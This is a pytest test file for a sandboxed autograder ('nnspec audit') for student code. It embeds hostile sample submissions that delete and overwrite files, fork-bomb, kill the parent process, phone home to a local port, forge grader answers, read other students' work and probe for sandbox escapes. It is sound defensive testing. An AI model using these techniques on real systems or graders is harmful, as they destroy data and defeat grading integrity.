"""A class folder with hostile submissions beside ordinary ones: every ordinary file gets its
right verdict and nothing outside the sandboxes changes (files, installation, processes,
network, the harness's memory)."""

from __future__ import annotations

import hashlib
import json
import os
import resource
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest

import nnspec
from nnspec.audit import contracts, isolation
from nnspec.audit.engine import audit
from nnspec.audit.grader import gradescope
from nnspec.audit.sandbox import Sandbox
from nnspec.audit.targets import parse_target
from nnspec.cli import main

CORPUS = Path(__file__).parent / "corpus" / "logreg_propagate"
MARKER = "nnspec-hostile-7f3a"  # in the command line of every process a target starts
CORRECT = (CORPUS / "correct_stable.py").read_text()

# Each file is a correct propagate plus an attack; {caller}, {home}, {folder}, {port} and
# {package} are filled in by the test. Every attack is wrapped so that the file still loads.
ATTACKS = {
    "rewrites_neighbours.py": '''
import os, glob
for where in (os.path.dirname(os.path.abspath(__file__)), {folder!r}):
    for path in glob.glob(os.path.join(where, "*.py")):
        if not path.endswith("rewrites_neighbours.py"):
            try:
                open(path, "w").write("raise SystemExit('overwritten')\\n")
            except OSError:
                pass
''',
    "deletes_callers_files.py": '''
import os, shutil
for path in ({caller!r},):
    try:
        shutil.rmtree(path)
    except OSError:
        pass
''',
    "writes_home_and_install.py": '''
import os
for path in (os.path.join({home!r}, "{marker}"), os.path.expanduser("~/{marker}"),
             os.path.join({package!r}, "{marker}.py"),
             os.path.join({package!r}, "audit", "contracts.py")):
    try:
        open(path, "a").write("def check(*a, **k): return []\\n")
    except OSError:
        pass
''',
    "numpy.py": '''
def exp(x):
    return 0.0 * x
''',
    "orphans.py": '''
import os, subprocess, sys
def spawn():
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "{marker}"],
                     start_new_session=True)
    if os.fork() == 0:
        if os.fork() == 0:
            os.setsid()
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)",
                                      "{marker}"])
        os._exit(0)
spawn()
''',
    "kills_parent.py": '''
import os, signal
_propagate = propagate
def propagate(w, b, X, Y):
    for pid in (os.getppid(),):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return _propagate(w, b, X, Y)
''',
    "patches_the_sandbox.py": '''
import nnspec.audit.sandbox as sandbox
sandbox._changed = lambda *args, **kwargs: []
_propagate = propagate
def propagate(w, b, X, Y):
    grads, cost = _propagate(w, b, X, Y)
    w -= 0.01 * grads["dw"]  # changes the caller's array in place
    return grads, cost
''',
    "huge_answer.py": '''
def propagate(w, b, X, Y):
    return {"dw": np.zeros(45_000_000 // 8), "db": 0.0}, 0.0
''',
    "forged_answer.py": '''
import nnspec.audit.answers as answers
def propagate(w, b, X, Y):
    forged = b'{"$a": ["|O", [1], 0]}'
    answers.encode = lambda value: answers.HEADER.pack(len(forged), 8) + forged + bytes(8)
    return {"dw": w, "db": 0.0}, 0.0
''',
    "fork_bomb.py": '''
import os, time
_propagate = propagate
def propagate(w, b, X, Y):
    for _ in range(100_000):
        try:
            if os.fork() == 0:
                time.sleep(300)
                os._exit(0)
        except OSError:
            break
    return _propagate(w, b, X, Y)
''',
    "phones_home.py": '''
import socket
import time
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"{marker}")
except OSError:
    pass
''',
}


def _fill(text: str, values: dict) -> str:
    """`{key!r}` becomes repr(value), `{key}` str(value) (the attacks' own braces stay)."""
    for key, value in values.items():
        text = text.replace(f"{{{key}!r}}", repr(value)).replace(f"{{{key}}}", str(value))
    return text


def _snapshot(root: Path) -> dict[str, str]:
    """Path to content hash of every file under root."""
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


def _leftovers() -> list[str]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if MARKER.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(pid)
        except OSError:
            continue
    return found


@pytest.fixture(scope="module")
def sandboxed() -> None:
    if isolation.choose("auto").kind != "bubblewrap":
        pytest.skip("user namespaces are not available here: no bubblewrap sandbox")


def test_a_hostile_class_folder(sandboxed: None, tmp_path: Path,
                                monkeypatch: pytest.MonkeyPatch,
                                capsys: pytest.CaptureFixture) -> None:
    folder, caller, home = tmp_path / "class", tmp_path / "caller", tmp_path / "home"
    for path in (folder, caller, home):
        path.mkdir()
    (caller / "thesis.tex").write_text("years of work\n")
    monkeypatch.setenv("HOME", str(home))
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    fill = {"caller": str(caller), "home": str(home), "folder": str(folder),
            "port": listener.getsockname()[1], "marker": MARKER,
            "package": str(Path(nnspec.__file__).parent)}
    for name, attack in ATTACKS.items():
        body = _fill(attack, fill)
        (folder / name).write_text(body if name == "numpy.py" else CORRECT + body)
    (folder / "correct.py").write_text(CORRECT)
    (folder / "buggy.py").write_text((CORPUS / "bug_sign_error.py").read_text())
    before = {"class": _snapshot(folder), "caller": _snapshot(caller),
              "package": _snapshot(Path(nnspec.__file__).parent)}

    code = main(["audit", str(folder), "--contract", "logreg.propagate", "--examples", "2",
                 "--timeout", "30", "--json", str(tmp_path / "out.json")])
    out = capsys.readouterr().out
    results = {t["target"]: t for t in json.loads((tmp_path / "out.json").read_text())["targets"]}
    checks = {name: {(f["check"], f["severity"]) for f in r["findings"]}
              for name, r in results.items()}

    assert code == 1 and "isolation: bubblewrap" in out
    assert results["correct.py"]["verdict"] == "conforms"
    assert ("value", "defect") in checks["buggy.py"]
    for name in ("rewrites_neighbours.py", "deletes_callers_files.py", "orphans.py",
                 "writes_home_and_install.py", "phones_home.py", "kills_parent.py"):
        assert results[name]["verdict"] == "conforms", name  # the attack did nothing
    assert results["numpy.py"]["verdict"] == "error"  # no propagate in it
    assert ("mutation", "defect") in checks["patches_the_sandbox.py"]
    assert ("output-size", "defect") in checks["huge_answer.py"]
    assert ("answer", "defect") in checks["forged_answer.py"]
    assert results["fork_bomb.py"]["verdict"] in ("conforms", "defect")

    assert _snapshot(folder) == before["class"]
    assert _snapshot(caller) == before["caller"]
    assert _snapshot(Path(nnspec.__file__).parent) == before["package"]
    assert not [p for p in home.rglob("*") if MARKER in p.name]  # (the harness's cache is there)
    assert _leftovers() == []
    with pytest.raises(BlockingIOError):
        listener.accept()
    listener.close()


def test_a_forged_answer_after_a_right_one_earns_nothing_for_the_results(
        sandboxed: None, tmp_path: Path) -> None:
    """A target that answered right once and then wrote answers the harness cannot read was not
    called again, and the `answer` defect cost nothing: full marks but one point for code
    whose results were seen once. Its checks of results now earn nothing, as a hang's do."""
    target = tmp_path / "forger.py"
    target.write_text(CORRECT + '''
_right = propagate


def propagate(w, b, X, Y):
    import nnspec.audit.answers as answers
    forged = b'{"$a": ["|O", [1], 0]}'
    answers.encode = lambda value: answers.HEADER.pack(len(forged), 8) + forged + bytes(8)
    return _right(w, b, X, Y)
''')
    result = audit(str(target), "logreg.propagate", examples=5)
    assert ("answer", "defect") in {(f.check, f.severity) for f in result.findings}
    tests = {t["name"]: t for t in gradescope(result)["tests"]}
    assert tests["answer"]["status"] == "failed"
    assert all(tests[c]["score"] == 0 for c in contracts.OF_RESULTS if c in tests)


def test_a_45_mb_answer_leaves_the_harness_small(sandboxed: None, tmp_path: Path) -> None:
    path = tmp_path / "huge.py"
    path.write_text(CORRECT + ATTACKS["huge_answer.py"])
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    result = audit(str(path), "logreg.propagate", examples=3, timeout=30)
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak  # KiB
    assert result.verdict == "defect" and result.findings[0].check == "output-size"
    assert grown < 100_000, f"the harness grew by {grown} KiB"


MEMORY_HOG = """
import os, time
import numpy as np

def propagate(w, b, X, Y):
    for _ in range(3):
        if os.fork() == 0:
            block = np.ones(100_000_000 // 8)  # 100 MB each, 300 MB together
            time.sleep(300)
            os._exit(0)
    time.sleep(60)
"""


def test_memory_is_limited_for_all_processes_together(sandboxed: None, tmp_path: Path) -> None:
    path = tmp_path / "hog.py"
    path.write_text(MEMORY_HOG)
    with Sandbox(parse_target(str(path), "propagate"), budget=30,
                 memory_limit=200 << 20) as box:
        start = time.perf_counter()
        out = box.call((np.zeros((1, 1)), 0.0, np.zeros((1, 1)), np.zeros((1, 1))))
    assert out.status == "crash" and "GiB limit" in out.message, out.message
    assert time.perf_counter() - start < 20  # killed, not left to sleep out the budget


SHARED_HOG = """
import mmap, os

def propagate(w, b, X, Y):
    held = []
    try:
        fd = os.memfd_create("x")
    except OSError as exc:
        memfd = exc.errno
    else:
        os.close(fd)
        memfd = 0
    for _ in range(25):  # 400 MiB of MAP_SHARED memory: in statm's "shared", never counted
        m = mmap.mmap(-1, 16 << 20, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
        m.write(b"x" * (16 << 20))
        held.append(m)
    raise RuntimeError(f"held 400 MiB; memfd_create: {memfd}")
"""


def test_shared_memory_counts_and_memory_no_process_shows_is_refused(
        sandboxed: None, tmp_path: Path) -> None:
    """The watch counted a process's resident memory less its shared part, so MAP_SHARED
    memory (858 MiB against a 512 MiB limit) went unseen; memory of a memfd written then
    unmapped is in no process at all (1.2 GiB held, 16 MiB per file, 20000 files allowed).
    Shared memory now counts, memfd_create fails (ENOSYS), and as root the sandbox has a
    memory cgroup of its own below nnspec's."""
    path = tmp_path / "shared.py"
    path.write_text(SHARED_HOG)
    with Sandbox(parse_target(str(path), "propagate"), budget=30,
                 memory_limit=200 << 20) as box:
        assert box.start() is None
        group = box._group
        memory = [p for p in (group.paths if group else []) if "/memory/" in p]
        if memory:
            limit = int(Path(memory[0], "memory.limit_in_bytes").read_text())
            assert limit == (200 << 20) + isolation.MEMORY_SLACK
        out = box.call((np.zeros((1, 1)), 0.0, np.zeros((1, 1)), np.zeros((1, 1))))
    assert out.status == "crash" and "GiB limit" in out.message, out.message
    if isolation.seccomp_filter_known():
        path.write_text(SHARED_HOG.replace("range(25)", "range(1)"))
        with Sandbox(parse_target(str(path), "propagate"), budget=30) as box:
            out = box.call((np.zeros((1, 1)), 0.0, np.zeros((1, 1)), np.zeros((1, 1))))
        assert out.status == "exception" and "memfd_create: 38" in out.message, out.message
    if os.geteuid() == 0 and isolation.own_memory_group() and \
            os.access(isolation.own_memory_group(), os.W_OK):
        assert memory, "no memory cgroup made"


FILLS_TMPFS = """
import os

def propagate(w, b, X, Y):
    filled = []
    for folder in ("/dev", "/dev/shm", "/tmp", os.path.dirname(os.path.abspath(__file__)),
                   {home!r}, {own!r}):
        written = 0
        try:
            for n in range(40):  # files of 1 MiB: RLIMIT_FSIZE caps each at 16 MiB
                with open(os.path.join(folder, f"fill{{n}}"), "wb") as f:
                    f.write(bytes(1 << 20))
                written += 1
        except OSError:
            pass
        filled.append(f"{{folder}}={{written}}")
    raise RuntimeError(" ".join(filled))
"""


def test_no_writable_folder_holds_more_than_its_small_size(sandboxed: None,
                                                           tmp_path: Path) -> None:
    """Files in memory (tmpfs) escape the memory watch, which counts processes: bwrap's
    unsized tmpfs for the hidden home and folders, and /dev, took up to half the machine's
    memory each. Only /tmp (64 MiB with the working folder in it) and /dev/shm (16 MiB) are
    writable; the folders over hidden ones (the home, the target's own) are empty and
    read-only."""
    own = tmp_path / "own"
    own.mkdir()
    path = own / "fill.py"
    path.write_text(FILLS_TMPFS.format(home=os.path.expanduser("~"), own=str(own)))
    with Sandbox(parse_target(str(path), "propagate"), budget=30) as box:
        out = box.call((np.zeros((1, 1)), 0.0, np.zeros((1, 1)), np.zeros((1, 1))))
    written = dict(pair.split("=") for pair in out.message.split(": ", 1)[1].split(" (")[0]
                   .split())
    assert written.pop("/dev/shm") == "16" and written.pop("/tmp") == "40", out.message
    assert written.pop(os.path.expanduser("~")) == written.pop(str(own)) == "0", out.message
    assert written.pop("/dev") == "0", out.message
    (workdir,) = written.values()
    assert int(workdir) < 64 - 40, out.message  # what /tmp has left


def _descendants(pid: int) -> list[int]:
    found, todo = [], [pid]
    while todo:
        parent = todo.pop()
        for task in Path(f"/proc/{parent}/task").glob("*"):
            try:
                children = [int(c) for c in (task / "children").read_text().split()]
            except OSError:
                continue
            found += children
            todo += children
    return found


def test_ctrl_c_stops_an_audit_at_once_and_writes_nothing(tmp_path: Path) -> None:
    target = tmp_path / "hangs.py"
    target.write_text("import time\n\ndef propagate(w, b, X, Y):\n    time.sleep(600)\n")
    out = tmp_path / "out.json"
    run = subprocess.Popen([sys.executable, "-m", "nnspec", "audit", str(target), "--contract",
                            "logreg.propagate", "--json", str(out)],
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not any(
            b"nnspec.audit.sandbox" in Path(f"/proc/{p}/cmdline").read_bytes()
            for p in _descendants(run.pid) if Path(f"/proc/{p}/cmdline").exists()):
        time.sleep(0.1)
    time.sleep(1.0)  # the target is loaded and called
    sandbox = _descendants(run.pid)
    start = time.monotonic()
    run.send_signal(signal.SIGINT)
    _, err = run.communicate(timeout=30)
    # at once: not after the target's 600 s nor the audit's 60 s timeout (2 s was once too
    # short for a loaded machine to stop the sandbox)
    assert time.monotonic() - start < 8 and run.returncode == 130
    assert err.decode().strip() == "nnspec: interrupted" and not out.exists()
    assert sandbox and not any(isolation._running(p) for p in sandbox)


LANDLOCKED = """
import os, socket

def propagate(w, b, X, Y):
    out = []
    for path in ({outside!r}, "inside.txt"):
        try:
            open(path, "w").write("x")
            out.append("wrote " + os.path.basename(path))
        except OSError:
            out.append("no write")
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=2)
        out.append("connected")
    except OSError:
        out.append("no connection")
    try:
        os.kill(os.getppid(), 0)
        out.append("signals its parent")
    except OSError:
        out.append("no signal")
    return out
"""


def test_the_landlock_fallback_without_namespaces(tmp_path: Path) -> None:
    if isolation.landlock_abi() < 6:
        pytest.skip("Landlock with signal scoping (ABI 6) is not available here")
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    path = tmp_path / "probe.py"
    path.write_text(_fill(LANDLOCKED, {"outside": str(tmp_path / "escaped.txt"),
                                       "port": listener.getsockname()[1]}))
    with Sandbox(parse_target(str(path), "propagate"),
                 isolation=isolation.Isolation("landlock", "forced")) as box:
        out = box.call((1, 2, 3, 4))
    assert out.value == ["no write", "wrote inside.txt", "no connection", "no signal"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["probe.py"]
    with pytest.raises(BlockingIOError):
        listener.accept()
    listener.close()


def test_no_process_cgroup_is_left_behind_by_a_target_that_dies(sandboxed: None) -> None:
    """A worker that exits or crashes is released by the kernel a moment after its death: the
    harness waits for that instead of leaving its pids cgroup behind (it used to, one per
    crash)."""
    probe = isolation.ProcessGroup()
    if probe.path is None:
        pytest.skip("no pids cgroup here (not root, or cgroup v2 only)")
    probe.remove()
    # this process's own: another nnspec on the machine may have groups of its own meanwhile
    ours = lambda: {p.name for p in Path(isolation.PIDS_CGROUP).glob(f"nnspec-{os.getpid()}-*")}
    before = ours()
    for name in ("bug_exit.py", "bug_segfault.py"):
        result = audit(str(CORPUS / name), "logreg.propagate", examples=5, timeout=5)
        assert result.verdict == "defect"
    assert ours() <= before


NOSY = """
def propagate(w, b, X, Y):
    try:
        seen = open({bob!r}).read()  # the class folder's path, as a student could guess it
    except OSError as exc:
        seen = type(exc).__name__
    raise ValueError(seen)
"""


def test_a_submission_cannot_read_another_in_a_folder_of_folders(sandboxed: None,
                                                                  capsys) -> None:
    """Each student in a folder of their own, the class folder outside /tmp and the home
    directory (both hidden anyway): alice's code reads bob's file and raises with it, which
    would put bob's answer in alice's feedback. A folder run hides the whole class folder
    from every submission, not only the submission's own folder (which let this through)."""
    import shutil
    import tempfile

    try:
        root = Path(tempfile.mkdtemp(prefix="nnspec-class-", dir="/var/tmp"))
    except OSError:
        pytest.skip("no writable folder outside /tmp and the home directory")
    try:
        (root / "alice").mkdir()
        (root / "bob").mkdir()
        (root / "alice" / "sub.py").write_text(NOSY.format(bob=str(root / "bob" / "sub.py")))
        (root / "bob" / "sub.py").write_text("ANSWER = 'bob-secret-42'\n"
                                             "def propagate(w, b, X, Y):\n    raise KeyError\n")
        out = root.parent / f"{root.name}.json"
        for workers in ("1", "2"):
            code = main(["audit", str(root), "--contract", "logreg.propagate", "--examples", "3",
                         "--no-cache", "--workers", workers, "--json", str(out)])
            report = json.loads(out.read_text())
            alice = next(t for t in report["targets"] if t["target"] == "alice/sub.py")
            assert code == 1 and "raises ValueError: FileNotFoundError" in str(alice["findings"])
            assert "bob-secret-42" not in out.read_text() + capsys.readouterr().out
        out.unlink()
    finally:
        shutil.rmtree(root, ignore_errors=True)


def test_cgroups_of_dead_nnspec_processes_are_swept(monkeypatch: pytest.MonkeyPatch) -> None:
    """A worker killed with SIGKILL cannot remove its cgroup; the next process that makes one
    removes those of dead creators, and never one whose creator lives."""
    probe = isolation.ProcessGroup()
    if probe.path is None:
        pytest.skip("no pids cgroup here (not root, or cgroup v2 only)")
    probe.remove()
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    stale = Path(isolation.PIDS_CGROUP) / f"nnspec-{dead.pid}-stale0000000"
    alive = Path(isolation.PIDS_CGROUP) / f"nnspec-{os.getpid()}-alive0000000"
    stale.mkdir()
    alive.mkdir()
    try:
        monkeypatch.setattr(isolation, "_SWEPT", [])
        group = isolation.ProcessGroup()
        group.remove()
        assert not stale.exists() and alive.exists()
    finally:
        for folder in (stale, alive):
            if folder.exists():
                folder.rmdir()


SWALLOWED_CTRL_C = """
import gc, signal, sys
from nnspec import cli

armed = [1]

def ctrl_c_lands_in_a_gc_callback(phase, info):
    # Python reports and drops an exception raised in a gc callback (Hypothesis has one)
    if armed and phase == "start" and "hypothesis" in sys.modules:
        armed.clear()
        signal.raise_signal(signal.SIGINT)

gc.callbacks.append(ctrl_c_lands_in_a_gc_callback)
sys.exit(cli.main(sys.argv[1:]))
"""


def test_ctrl_c_dropped_by_a_gc_callback_still_stops_the_audit(tmp_path: Path) -> None:
    """Python drops a KeyboardInterrupt raised in a gc callback: the audit went on. It stops,
    and says so in one line ("Exception ignored in ..." and a traceback came first)."""
    target = tmp_path / "hangs.py"
    target.write_text("import time\n\ndef propagate(w, b, X, Y):\n    time.sleep(600)\n")
    out = tmp_path / "out.json"
    run = subprocess.run([sys.executable, "-c", SWALLOWED_CTRL_C, "audit", str(target),
                          "--contract", "logreg.propagate", "--json", str(out)],
                         check=False, capture_output=True, text=True, timeout=120)
    assert run.returncode == 130 and run.stderr == "nnspec: interrupted\n", run.stderr
    assert not out.exists()


POISON = """import numpy
_dot = numpy.dot
numpy.dot = lambda a, b, out=None: _dot(a, b) * 1.5
"""
HONEST_DOT = """import json
import numpy as np


def propagate(w, b, X, Y):
    m = X.shape[1]
    Z = np.dot(w.T, X) + b
    A = np.where(Z >= 0, 1 / (1 + np.exp(-np.abs(Z))), np.exp(-np.abs(Z)) / (1 + np.exp(-np.abs(Z))))
    cost = np.sum(Y * np.logaddexp(0, -Z) + (1 - Y) * np.logaddexp(0, Z)) / m
    return {"dw": np.dot(X, (A - Y).T) / m, "db": np.sum(A - Y) / m}, float(cost)
"""
THIEF = """if False:
    import {victim}

def propagate(w, b, X, Y):
    raise RuntimeError(open("{victim}.py").read()[:200])
"""


def test_a_flat_class_folder_keeps_each_submission_to_itself(sandboxed: None, tmp_path: Path,
                                                             capsys) -> None:
    """In one folder of submissions: a `json.py` that patches NumPy is not the helper of a
    submission that imports json (it changed its grade); a submission that imports its
    neighbour (dead code is enough) does not get the neighbour's file; a link out of the
    folder (to the caller's home) is neither audited nor a helper, nor is a link to a
    neighbour's file (it was graded as the link's owner's, with the neighbour's code)."""
    folder = tmp_path / "class"
    folder.mkdir()
    secret = tmp_path / "outside.txt"
    secret.write_text("outside-secret-5150")
    (folder / "honest.py").write_text(HONEST_DOT)
    (folder / "json.py").write_text(POISON)
    (folder / "victim.py").write_text("# victim-answer-0451\n" + CORRECT)
    (folder / "thief.py").write_text(THIEF.format(victim="victim"))
    (folder / "leak.py").symlink_to(secret)
    (folder / "thief2.py").write_text(THIEF.format(victim="leak"))
    (folder / "mallory").mkdir()
    (folder / "mallory" / "hw_final.py").symlink_to(Path("..") / "victim.py")
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / "hw.py").write_text(CORRECT)
    (folder / "trudy").symlink_to(tmp_path / "home")  # a folder's link: not followed, named
    out = tmp_path / "class.json"
    code = main(["audit", str(folder), "--contract", "logreg.propagate", "--examples", "20",
                 "--no-cache", "--json", str(out)])
    printed = capsys.readouterr()
    verdicts = {t["target"]: t["verdict"] for t in json.loads(out.read_text())["targets"]}
    assert code == 1 and verdicts["honest.py"] == verdicts["victim.py"] == "conforms", verdicts
    assert "leak.py" not in verdicts and "links (a submission is a file of its own): " \
        "leak.py -> out of the folder, mallory/hw_final.py -> victim.py, " \
        "trudy/ -> out of the folder" in printed.err
    assert "trudy/hw.py" not in verdicts
    assert "mallory/hw_final.py" not in verdicts  # graded as mallory's with victim's code
    everything = out.read_text() + printed.out
    assert "victim-answer-0451" not in everything and "outside-secret-5150" not in everything


def test_a_target_that_cannot_be_read_at_once_is_an_error_not_a_hang(tmp_path: Path,
                                                                      capsys) -> None:
    """A link to a FIFO (or /proc/kmsg) used to block the harness's read for ever, whatever
    --timeout said; a file nested too deeply to parse gave a traceback."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    (tmp_path / "waits.py").symlink_to(fifo)
    (tmp_path / "kmsg.py").symlink_to("/proc/kmsg")  # a regular file that blocks
    (tmp_path / "deep.py").write_text("def propagate(w, b, X, Y):\n    return "
                                      + "-" * 200000 + "1\n")
    (tmp_path / "deep.ipynb").write_text('{"cells": ' + "[" * 100000 + "]" * 100000 + "}")
    for name, words in (("waits.py", "not a regular file"), ("kmsg.py", "a system file"),
                        ("deep.py", "nested too deeply"),
                        ("deep.ipynb", "nested too deeply")):
        start = time.perf_counter()
        code = main(["audit", str(tmp_path / name), "--contract", "logreg.propagate"])
        err = capsys.readouterr().err
        assert code == 2 and words in err and len(err.strip().splitlines()) == 1, err
        assert time.perf_counter() - start < 10


def test_file_names_with_control_characters_or_bad_bytes_lose_nothing(tmp_path: Path,
                                                                        capsys) -> None:
    """A result names its target escaped for the terminal; the run matched results to jobs
    by that name and lost the whole class to a KeyError (and a name that is not UTF-8 broke
    the cache key)."""
    folder = tmp_path / "class"
    folder.mkdir()
    names = ["plain.py", "x\x1b[2Jy.py", os.fsdecode(b"bad\xff.py")]
    for name in names:
        (folder / name).write_text(CORRECT)
    out = tmp_path / "class.json"
    for cache in (["--no-cache"], ["--cache", str(tmp_path / "results.sqlite")]):
        code = main(["audit", str(folder), "--contract", "logreg.propagate", "--examples", "5",
                     "--json", str(out), *cache])
        targets = json.loads(out.read_text())["targets"]
        assert code == 0 and len(targets) == 3
        assert "\x1b" not in capsys.readouterr().out


def _attack_does_nothing(path: Path, attempt: str) -> None:
    """Audit a correct propagate whose module first runs `attempt` (which sets `_DID` when the
    attack worked) and that raises on every call if it did: it must conform."""
    path.write_text(CORRECT + attempt + '''
_correct = propagate


def propagate(w, b, X, Y):
    if _DID:
        raise RuntimeError("the attack worked")
    return _correct(w, b, X, Y)
''')
    result = audit(str(path), "logreg.propagate", examples=2, timeout=30)
    assert result.verdict == "conforms", result.message()


def _cannot_read(target: Path, path: Path) -> None:
    """`_attack_does_nothing` with an attack that reads `path`."""
    _attack_does_nothing(target, f"""
try:
    _DID = bool(open({str(path)!r}).read())
except OSError:
    _DID = False
""")


@pytest.fixture
def outside() -> Iterator[Path]:
    """A folder of the machine outside /tmp (the sandbox has a /tmp of its own), removed after."""
    import shutil
    import tempfile

    folder = Path(tempfile.mkdtemp(prefix="nnspec-outside-", dir="/var/tmp"))
    try:
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def test_kernel_settings_cannot_be_written_from_the_sandbox(sandboxed: None,
                                                            tmp_path: Path) -> None:
    """As root, the sandbox is root to the kernel, and bwrap left /proc/sys writable: a
    target could set core_pattern (a program the kernel runs as root on a crash). The attack
    writes back the value it read, so the machine is unchanged either way."""
    _attack_does_nothing(tmp_path / "sysctl.py", '''
_P = "/proc/sys/kernel/printk_ratelimit_burst"
try:
    _value = open(_P).read()
    with open(_P, "w") as _f:
        _f.write(_value)
    _DID = True
except OSError:
    _DID = False
''')


def test_a_unix_socket_the_sandbox_can_see_cannot_be_reached(sandboxed: None,
                                                             tmp_path: Path) -> None:
    """A socket file is outside the network namespace's reach: a Docker, D-Bus or agent socket
    under /run, or this listener in /var/tmp, answered the sandbox (its "no network")."""
    import shutil
    import tempfile

    where = Path(tempfile.mkdtemp(prefix="nnspec-socket-", dir="/var/tmp"))
    try:
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(str(where / "agent.sock"))
        listener.listen()
        listener.setblocking(False)
        _attack_does_nothing(tmp_path / "unix.py", f'''
import socket as _socket
try:
    _socket.socket(_socket.AF_UNIX).connect({str(where / "agent.sock")!r})
    _DID = True
except OSError:
    _DID = False
''')
        with pytest.raises(BlockingIOError):
            listener.accept()
        listener.close()
    finally:
        shutil.rmtree(where, ignore_errors=True)


def test_no_socket_of_any_kind_and_no_io_uring(sandboxed: None, tmp_path: Path) -> None:
    """io_uring's socket operation made a Unix socket without socket(), past the filter (with
    Landlock, where the filesystem is seen, it reached the host's sockets); loopback TCP
    buffers held 1.3 GiB past the 4 GiB memory limit; message queues were memory the watch
    does not see. socket() fails for every domain; io_uring and the queues do not exist."""
    if not isolation.seccomp_filter_known():
        pytest.skip("no seccomp filter for this machine")
    _attack_does_nothing(tmp_path / "sockets.py", '''
import ctypes, errno, socket as _socket
_DID = False
for _family in (_socket.AF_INET, _socket.AF_INET6, _socket.AF_UNIX, 16):  # 16: netlink
    try:
        _socket.socket(_family, _socket.SOCK_DGRAM if _family == 16 else _socket.SOCK_STREAM)
        _DID = True
    except OSError:
        pass
_libc = ctypes.CDLL(None, use_errno=True)
for _number in (425, 68, 240):  # io_uring_setup, msgget, mq_open (x86_64)
    if _libc.syscall(_number, 0, 0, 0, 0) >= 0 or ctypes.get_errno() != errno.ENOSYS:
        _DID = _DID or __import__("platform").machine() == "x86_64"
_a, _b = _socket.socketpair()  # multiprocessing's pipes still work
''')


def test_a_submission_cannot_import_or_read_nnspec_s_correct_results(sandboxed: None,
                                                                    tmp_path: Path) -> None:
    """nnspec's reference, oracle and the diagnosis's variants compute what a submission must
    return, and its source checkout holds the corpus's correct files: a file target that
    imports or reads them would conform without a line of its own."""
    import nnspec.reference

    reference = Path(nnspec.reference.__file__).resolve().parent
    corpus = Path(__file__).resolve().parent / "corpus" / "logreg_propagate"
    for name, attempt in [
            ("imports", "from nnspec.reference.logreg import propagate as _p\n"),
            ("oracle", "from nnspec.numerics.oracle import logreg_exact as _p\n"),
            ("variants", "from nnspec.audit import diagnosis as _p\n"),
            ("reads", f"_p = open({str(reference / 'logreg.py')!r}).read()\n"),
            ("corpus", f"_p = open({str(corpus / 'correct_vectorised.py')!r}).read()\n")]:
        _attack_does_nothing(tmp_path / f"{name}.py", f"""
try:
    {attempt.strip()}
    _DID = True
except (ImportError, OSError):
    _DID = False
""")


FORGED_NOTES = """
import nnspec.audit.answers as _answers

_encode = _answers.encode


def _forge(answer):  # the load's answer: one note per check, so that every check has a finding
    if answer.get("status") == "ok" and "value" not in answer and "after" not in answer:
        answer = dict(answer, message="\\n".join(f"{c}\\tok" for c in (
            "timeout", "crash", "keys", "shape", "type", "determinism", "mutation", "stdout",
            "load", "import")))
    return _encode(answer)


_answers.encode = _forge


def propagate(w, b, X, Y):
    raise NotImplementedError
"""


def test_a_submission_cannot_forge_notes_that_pass_its_checks(tmp_path: Path) -> None:
    """A stub that replaced the worker's answer encoder had a note under every check, and the
    grader passed every check with a finding and no defect: 15/20 for `raise
    NotImplementedError` (found by a hostile hunt)."""
    from nnspec.audit.grader import gradescope

    target = tmp_path / "stub.py"
    target.write_text(FORGED_NOTES)
    result = audit(str(target), "logreg.propagate", examples=5, timeout=30)
    assert {f.check for f in result.findings if f.severity == "note"} <= {"load", "import"}
    assert gradescope(result)["score"] == 0


def test_a_folder_on_the_harness_s_sys_path_is_not_shown(sandboxed: None, tmp_path: Path,
                                                         outside: Path,
                                                         monkeypatch: pytest.MonkeyPatch
                                                         ) -> None:
    """The harness's sys.path was bound whole: pytest puts a user's test folders on it (with
    the expected values), as an audit in-process puts a loaded submission's folder; the
    worker, a `python -I`, imports from neither."""
    (outside / "test_expected.py").write_text("EXPECTED = 0.6931471805599453\n")
    monkeypatch.syspath_prepend(str(outside))
    monkeypatch.syspath_prepend(str(tmp_path / "first"))  # sys.path[0] was never bound
    _cannot_read(tmp_path / "syspath.py", outside / "test_expected.py")


def test_an_editable_install_s_folder_is_not_shown(sandboxed: None, tmp_path: Path,
                                                   outside: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """The folders that the site-packages' .pth files name were bound: an editable install
    there is the instructor's own project, and `from coursekit.answer_key import propagate`
    conformed (found by a hostile hunt)."""
    import site

    (outside / "answer_key.py").write_text("ANSWER = 1\n")
    site_dir = tmp_path / "site-packages"
    site_dir.mkdir()
    (site_dir / "__editable__.coursekit.pth").write_text(f"{outside}\n")
    monkeypatch.setattr(site, "getsitepackages", lambda *a: [str(site_dir)])
    _cannot_read(tmp_path / "key.py", outside / "answer_key.py")


def test_the_sandbox_s_command_line_names_no_folder(sandboxed: None, tmp_path: Path) -> None:
    """/proc/1 in the sandbox is bubblewrap, whose command line named every folder bound or
    hidden: the home, the class folder, nnspec's checkout (found by a hostile hunt)."""
